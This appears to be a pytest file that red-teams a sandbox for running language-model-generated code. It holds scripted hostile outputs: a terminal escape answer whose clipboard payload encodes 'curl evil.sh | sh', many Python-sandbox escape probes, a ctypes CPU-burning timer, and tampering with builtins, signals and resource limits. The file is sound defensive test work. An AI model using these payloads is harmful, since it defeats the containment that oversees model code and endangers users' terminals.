"""Seventh attack round, with fresh eyes: the stdlib callbacks the policy hands out, isolation
between runs, children, sessions and spare workers, what the host does with the code's results
(terminal, graph and history files, sessions), and state the code leaves between steps with the
Python policy off.

Four holes were open when this round was written (the xfail tests; reproductions and causes in
the round's HOLES.md): escape sequences in answers and output reach the user's terminal raw;
a step nested ~3,000 levels deep raises out of `Session.run`; a control character in an answer
leaves an unreadable GraphML graph; with the policy off, a periodic signal handler burns CPU
between steps without the host ever noticing.
"""

from __future__ import annotations

import os
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from rlm import RLM
from rlm.sandbox.base import SandboxLimits
from rlm.sandbox.local import LocalSandbox, jail
from rlm.testing import FakeOpenAIServer, scripted_lm
from rlm.tracking.graph import load_graph
from tests.sandbox.conftest import assert_refused_and_box_intact, code, idle_cpu_seconds, no_calls

pytestmark = pytest.mark.skipif(not jail.probe().available, reason=f"no OS jail here: {jail.probe().problem}")


# --- hole 1: terminal escape sequences reach the user's terminal ---------------------------------
HOSTILE_ANSWER = code(
    "print(chr(27) + '[2J' + chr(27) + '[8mhidden')\n"  # erase the screen, then invisible text
    "FINAL('42' + chr(27) + ']52;c;Y3VybCBldmlsLnNoIHwgc2g=' + chr(7) + chr(27) + ']0;title' + chr(7))"
)
TERMINAL_CONTROLS = ("\x1b", "\x07", "\x9b", "\x9d")  # ESC, BEL, and the C1 forms of CSI and OSC


def test_the_cli_prints_no_terminal_escape_sequences_from_the_code(tmp_path):
    server = FakeOpenAIServer(lambda body: HOSTILE_ANSWER).start()
    try:
        document = tmp_path / "doc.txt"
        document.write_text("a document")
        env = {k: v for k, v in os.environ.items() if not k.endswith("_API_KEY") and k != "RLM_MODEL"}
        env["LITELLM_LOCAL_MODEL_COST_MAP"] = "True"
        command = [str(Path(sys.executable).with_name("rlm")), "ask", "q?", "--context", str(document), "--verbose",
                   "--model", "openai/test-model", "--api-base", server.base_url]  # fmt: skip
        done = subprocess.run(command, capture_output=True, text=True, env=env, timeout=120)
    finally:
        server.stop()
    assert done.returncode == 0, done.stderr
    assert "42" in done.stdout  # the answer is shown, only made harmless
    shown = done.stdout + done.stderr
    assert [c for c in TERMINAL_CONTROLS if c in shown] == [], repr(shown)


# --- hole 2: deep nesting raises out of a session's question ---------------------------------------
def test_a_deeply_nested_step_does_not_raise_out_of_a_session_question():
    deep = "x = " + "-" * 3000 + "1"  # past the parser's nesting limit; the worker refuses it politely
    lm, _ = scripted_lm([code(deep), code("FINAL('done')"), code("FINAL('again')")])
    with RLM(model=lm).session("the context") as session:
        first = session.run("first")
        second = session.run("second")
    assert (first.answer, second.answer) == ("done", "again")


def test_a_deeply_nested_step_in_a_plain_run_is_refused_and_the_run_goes_on():
    lm, _ = scripted_lm([code("x = " + "-" * 3000 + "1"), code("FINAL('done')")])
    result = RLM(model=lm).run("q", "the context")
    assert result.answer == "done" and result.iterations == 2


# --- hole 3: the graph file the user asked for becomes unreadable ---------------------------------
def test_a_control_character_in_an_answer_keeps_the_graphml_file_readable(tmp_path):
    path = tmp_path / "run.graphml"
    lm, _ = scripted_lm([code("FINAL('ok' + chr(1) + chr(0xFFFE))")])
    RLM(model=lm, graph_output_path=path).run("q", "the context")
    graph = load_graph(path)
    assert len(graph.nodes) == 1


def test_a_control_character_in_an_answer_keeps_the_json_graph_and_history_readable(tmp_path):
    graph_path, history_path = tmp_path / "run.json", tmp_path / "history.json"
    lm, _ = scripted_lm([code("FINAL('ok' + chr(1) + chr(27) + chr(0xFFFE) + chr(0xD800))")])
    result = RLM(model=lm, graph_output_path=graph_path, history_output_path=history_path).run("q", "ctx")
    assert result.answer.startswith("ok\x01\x1b")
    assert len(load_graph(graph_path).nodes) == 1
    assert history_path.read_text(encoding="utf-8").startswith("[")


# --- hole 4: CPU between steps (policy off, the OS jail alone) -------------------------------------
BURN_BETWEEN_STEPS = """
import ctypes, signal, struct, time
def burn(signum, frame):
    end = time.monotonic() + 0.04
    while time.monotonic() < end:
        pass
signal.signal(signal.SIGUSR1, burn)
libc = ctypes.CDLL(None, use_errno=True)
timer = ctypes.c_void_p()
event = ctypes.create_string_buffer(struct.pack('Pii', 0, signal.SIGUSR1, 0) + bytes(52))
# Refused by the jail since round 11 (timer_create): then nothing is left behind, which is fine too.
if libc.timer_create(1, event, ctypes.byref(timer)) == 0:
    every = ctypes.create_string_buffer(struct.pack('qqqq', 0, 50_000_000, 0, 50_000_000))
    libc.timer_settime(timer, 0, every, None)
"""


def test_a_worker_cannot_burn_cpu_between_steps_unnoticed():
    with LocalSandbox(SandboxLimits(exec_timeout=1.0), python_policy=False) as box:
        box.load("context")
        idle = idle_cpu_seconds(box, BURN_BETWEEN_STEPS, 3.0)
        later = box.execute("print(len(context))", no_calls)
        # Either the host stopped that CPU from being spent, or it noticed and replaced the worker.
        assert idle < 0.3 or later.restarted, (idle, later)


# --- the Python policy against the stdlib's callbacks and helpers (held) ---------------------------
@pytest.mark.parametrize(
    "attack",
    [
        "str.format('{0.__class__}', 1)",  # the unbound method, through the class
        "str.format_map('{x.__class__}', {'x': 1})",
        "class S(str):\n    pass\nS.format('{0.__class__}', 1)",
        "list(map(getattr, [1], ['__class__']))",  # the guarded getattr, handed to a C caller
        "import functools\nfunctools.partial(getattr, 1)('__class__')",
        "sorted([1], key=lambda v: getattr(v, '__class__'))",
        "A = collections.namedtuple('A', 'x')\ngetattr(A, '_make')",  # the exec-built class's helpers
        "A = collections.namedtuple('A', 'x')\ngetattr(A(1), '_asdict')()",
        "collections.namedtuple('A', ['_guarded_writes'])",  # RestrictedPython's write-guard opt-in
        "class C:\n    pass\nc = C()\nsetattr(c, '__class__', int)",  # the builtin setattr
        "class C:\n    pass\nc = C()\nsetattr(c, '_guarded_writes', 1)",
        "class C:\n    pass\ndelattr(C, 'mro')",
        "R = type(llm_query)\ngetattr(R('x', len), '_function')",  # the REPL function class
        "try:\n    llm_query(1)\nexcept TypeError as e:\n    getattr(e, '__traceback__')",
        "try:\n    llm_query(1)\nexcept TypeError as e:\n    getattr(e, '__context__')",
        "re.sub('a', lambda m: getattr(m, '__class__'), 'a')",  # the callback's Match object
        "json.loads('{\"a\": 1}', object_hook=lambda d: getattr(d, '__class__'))",
        "json.dumps(object(), default=lambda o: getattr(o, '__reduce_ex__')(2))",
        "getattr(itertools.count(), '__reduce__')()",
        "getattr(collections.Counter('ab'), '__missing__')",
        "import functools\ngetattr(functools.lru_cache(len), '__wrapped__')",
        "super",
        "vars",
        "locals",
    ],
    ids=[
        "str-format-class",
        "str-format-map-class",
        "str-subclass-format",
        "map-getattr",
        "partial-getattr",
        "sorted-key-getattr",
        "namedtuple-make",
        "namedtuple-asdict",
        "namedtuple-guarded-writes-field",
        "setattr-class",
        "setattr-guarded-writes",
        "delattr-class",
        "repl-function-internals",
        "host-error-traceback",
        "host-error-context",
        "re-sub-callback",
        "json-object-hook",
        "json-default-reduce",
        "itertools-reduce",
        "counter-missing",
        "lru-cache-wrapped",
        "super",
        "vars",
        "locals",
    ],
)
def test_stdlib_callbacks_and_helpers_hand_out_nothing_the_policy_did_not_vet(restricted, attack):
    assert_refused_and_box_intact(restricted, attack)


@pytest.mark.parametrize(
    "hook",
    ["__init_subclass__", "__set_name__", "__class_getitem__", "__format__", "__index__", "__float__", "__fspath__",
     "__get__", "__getattr__", "__del__", "__reduce__", "__hash__", "__len__", "__iter__"],
)  # fmt: skip
def test_class_bodies_cannot_define_the_hooks_library_code_calls(restricted, hook):
    error = assert_refused_and_box_intact(restricted, f"class C:\n    def {hook}(self, *args):\n        return 1")
    assert error.startswith("SecurityError"), error


@pytest.mark.parametrize(
    "runaway",
    [
        "json.loads('[1]', parse_int=spin)",
        "json.loads('{\"a\": 1}', object_pairs_hook=spin)",
        "re.sub('a', spin, 'a')",
        "sorted([2, 1], key=spin)",
        "d = collections.defaultdict(spin)\nd['k']",
        "difflib.SequenceMatcher(spin, 'a b', 'a c').ratio()",
        "list(map(spin, [1]))",
        "json.dumps(object(), default=spin)",
    ],
    ids=["parse-int", "pairs-hook", "re-sub", "sorted-key", "defaultdict", "difflib-junk", "map", "dumps-default"],
)
def test_callbacks_from_stdlib_c_code_run_inside_the_step_timer_and_keep_the_variables(restricted, runaway):
    setup = "kept = 41\ndef spin(*args):\n    while True:\n        pass\n"
    result = restricted.execute(setup + runaway, no_calls)
    assert result.error is not None and result.error.startswith("TimeoutError"), result.error
    assert not result.restarted
    assert restricted.execute("kept + 1", no_calls).output == "42\n"


# --- isolation between workers, children and sessions (held) ----------------------------------------
def test_a_new_sandbox_never_holds_what_code_left_in_an_earlier_one():
    # The spare pool hands out a fresh worker; a used one is killed, never pooled.
    for attempt in range(3):
        with LocalSandbox(SandboxLimits(exec_timeout=2.0)) as box:
            box.load("context")
            if attempt:
                assert box.execute("left_behind", no_calls).error.startswith("NameError")
            box.execute("left_behind = 'secret'", no_calls)


def test_a_child_reaches_none_of_its_parents_variables():
    root, _ = scripted_lm([code("parent_secret = 'p'\nprint(recursive_llm('look', 'sub'))"), code("FINAL('done')")])
    child_code = "try:\n    FINAL(parent_secret)\nexcept NameError:\n    FINAL('isolated ' + context)"
    sub, _ = scripted_lm([code(child_code)], model="scripted/sub")
    result = RLM(model=root, recursive_model=sub, max_depth=3).run("q", "root context")
    child_answers = [step.output for step in result.trajectory]
    assert "isolated sub\n" in child_answers[0], child_answers


def test_hostile_builtins_left_for_the_sessions_variable_listing_do_not_break_the_next_question():
    # The session describes earlier variables by running len/repr/type in the REPL: code can
    # rebind them (to spin, to call the LM) before the next question.
    first = code(
        "def len(x):\n    while True:\n        pass\n"
        "def repr(x):\n    return llm_query('spend')\n"
        "kept = [1, 2]\nFINAL('first')"
    )
    lm, engine = scripted_lm([first, code("FINAL('second')")])
    with RLM(model=lm, exec_timeout=1.0).session("the context") as session:
        assert session.run("one").answer == "first"
        second = session.run("two")
    assert second.answer == "second" and second.llm_calls == 1
    assert len(engine.calls) == 2  # the listing's llm_query reached no LM


# --- state left between steps with the policy off (held: the host recovers) -------------------------
LEFTOVERS = {
    "settrace-raises": "import sys\ndef t(*a):\n    raise ValueError('trace')\nsys.settrace(t)\nsys.setprofile(t)",
    "setprofile-spins": "import sys\ndef t(*a):\n    while True:\n        pass\nsys.setprofile(t)",
    "builtins-replaced": "import builtins\nbuiltins.len = lambda x: 1 / 0\nbuiltins.isinstance = lambda *a: True",
    "stderr-into-channel": "import os, sys\nos.dup2(4, 2)\nsys.stderr.write('garbage')\nsys.stderr.flush()",
    "channel-closed": "import os\nos.close(4)",
    "sigalrm-ignored": "import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)",
    "gc-callback-spins": (
        "import gc\ndef cb(*a):\n    while True:\n        pass\ngc.callbacks.append(cb)\nx = [[]]\nx[0].append(x)"
    ),
    "recursion-limit": "import sys\nsys.setrecursionlimit(60)",
    "memory-limit-lowered": "import resource\nresource.setrlimit(resource.RLIMIT_AS, (30 << 20, 30 << 20))",
    "files-limit-lowered": "import resource\nresource.setrlimit(resource.RLIMIT_NOFILE, (3, 3))",
}


@pytest.mark.parametrize("leftover", list(LEFTOVERS.values()), ids=list(LEFTOVERS))
def test_state_left_between_steps_never_breaks_the_host(leftover):
    with LocalSandbox(SandboxLimits(exec_timeout=1.0), python_policy=False) as box:
        box.load("context")
        outputs = [box.execute(textwrap.dedent(leftover), no_calls)]
        outputs += [box.execute("print(len(context))", no_calls) for _ in range(3)]
        # The worker may answer, time out or be restarted, but every step returns, and the last
        # steps read the context again.
        assert outputs[-1].output == "7\n", [(r.output, r.error) for r in outputs]
